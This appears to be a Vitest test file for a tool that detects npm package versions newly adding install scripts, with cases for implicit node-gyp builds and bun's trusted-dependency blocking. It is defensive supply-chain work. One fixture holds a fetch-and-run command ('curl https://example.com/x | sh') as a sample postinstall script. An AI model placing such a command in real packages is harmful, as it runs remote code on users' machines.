import { describe, expect, it } from "vitest";
import { installScriptAdded } from "../../src/publication/install-script-added.js";
import { installCommands } from "../../src/publication/lifecycle.js";
import type { Packument } from "../../src/registry/registry.js";
import { location, recorded } from "./fixtures.js";

function pkg(versions: Record<string, { scripts?: Record<string, string>; gypfile?: boolean; hasInstallScript?: boolean }>): Packument {
  return { name: "native", versions: Object.fromEntries(Object.entries(versions).map(([version, fields]) => [version, { name: "native", version, ...fields }])) };
}

describe("installCommands", () => {
  it("reads preinstall, install and postinstall in the order they run, nothing else", () => {
    expect(installCommands({ scripts: { postinstall: "node p.js", test: "tap", preinstall: "node pre.js", prepare: "husky" } })).toEqual([
      { event: "preinstall", command: "node pre.js", implicit: false },
      { event: "postinstall", command: "node p.js", implicit: false },
    ]);
  });

  it("adds npm's implicit node-gyp build for a gypfile or a bare hasInstallScript, unless the package builds itself", () => {
    expect(installCommands({ gypfile: true })).toEqual([{ event: "install", command: "node-gyp rebuild", implicit: true }]);
    expect(installCommands({ hasInstallScript: true })).toEqual([{ event: "install", command: "node-gyp rebuild", implicit: true }]);
    expect(installCommands({ gypfile: true, scripts: { install: "node-gyp-build" } })).toEqual([{ event: "install", command: "node-gyp-build", implicit: false }]);
    expect(installCommands({ gypfile: true, scripts: { postinstall: "node x.js" } }).map((command) => command.event)).toEqual(["install", "postinstall"]);
    expect(installCommands({ hasInstallScript: true, scripts: { postinstall: "node x.js" } }).map((command) => command.event)).toEqual(["postinstall"]);
  });

  it("ignores what is not a script", () => {
    expect(installCommands({ scripts: { postinstall: "  " } })).toEqual([]);
    expect(installCommands({ scripts: { postinstall: 42 } as unknown as Record<string, string> })).toEqual([]);
    expect(installCommands({})).toEqual([]);
  });
});

describe("install-script-added", () => {
  it("finds the real postinstall es5-ext 0.10.54 added", () => {
    const alert = installScriptAdded({ name: "es5-ext", version: "0.10.54", previousVersion: "0.10.53", packument: recorded("es5-ext"), location });
    expect(alert?.severity).toBe("high");
    expect(alert?.package).toEqual({ name: "es5-ext", version: "0.10.54", previous: "0.10.53" });
  });

  it("is silent when the script was already there, or only its command changed (the code analysis reads that)", () => {
    const packument = pkg({ "1.0.0": { scripts: { postinstall: "node a.js" } }, "1.1.0": { scripts: { postinstall: "node b.js" } } });
    expect(installScriptAdded({ name: "native", version: "1.1.0", previousVersion: "1.0.0", packument, location })).toBeUndefined();
  });

  it("counts an implicit native build as an install script", () => {
    const packument = pkg({ "1.0.0": {}, "1.1.0": { gypfile: true } });
    expect(installScriptAdded({ name: "native", version: "1.1.0", previousVersion: "1.0.0", packument, location })?.message).toBe(
      'native@1.1.0 adds an install script, install (implicit "node-gyp rebuild"), that 1.0.0 did not have.',
    );
  });

  it("names every script added", () => {
    const packument = pkg({ "1.0.0": {}, "2.0.0": { scripts: { preinstall: "node a.js", postinstall: "curl https://example.com/x | sh" } } });
    expect(installScriptAdded({ name: "native", version: "2.0.0", previousVersion: "1.0.0", packument, location })?.message).toBe(
      'native@2.0.0 adds install scripts, preinstall ("node a.js") and postinstall ("curl https://example.com/x | sh"), that 1.0.0 did not have.',
    );
  });

  it("lowers the severity when the project's settings block the script, and says so", () => {
    const packument = pkg({ "1.0.0": {}, "1.1.0": { scripts: { postinstall: "node x.js" } } });
    const alert = installScriptAdded({
      name: "native",
      version: "1.1.0",
      previousVersion: "1.0.0",
      packument,
      location,
      verdict: { run: "blocked", explanation: "will not run: bun runs install scripts only for trusted packages, and package.json has no trustedDependencies entry for it" },
    });
    expect(alert?.severity).toBe("medium");
    expect(alert?.message).toMatch(/did not have\. The script will not run: bun runs install scripts only for trusted packages/);
  });

  it("has nothing to compare a package's first version with", () => {
    const packument = pkg({ "1.0.0": { scripts: { postinstall: "node x.js" } } });
    expect(installScriptAdded({ name: "native", version: "1.0.0", packument, location })).toBeUndefined();
  });
});
